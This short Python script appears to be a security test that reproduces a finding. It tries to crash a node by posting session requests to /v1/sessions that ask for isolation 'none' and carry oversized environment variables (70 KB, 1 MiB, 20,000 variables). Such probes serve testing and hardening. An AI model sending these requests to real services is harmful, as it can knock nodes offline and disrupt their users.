# name: end the node by asking for a session with long environment variables
# line: 68
# finding: 6
# play: outside
import json

from attack import ask_node, planted_or_ended


def wanted(env):
    return json.dumps({"policy": {"isolation": "none"}, "env": env}).encode()


planted_or_ended([
    ("70 KB", lambda: ask_node("POST", "/v1/sessions", wanted({"LONG": "x" * 70_000}))),
    ("1 MiB", lambda: ask_node("POST", "/v1/sessions", wanted({f"L{n}": "x" * 65_536 for n in range(16)}))),
    ("20,000 variables", lambda: ask_node("POST", "/v1/sessions", wanted({f"L{n}": "x" for n in range(20_000)}))),
])
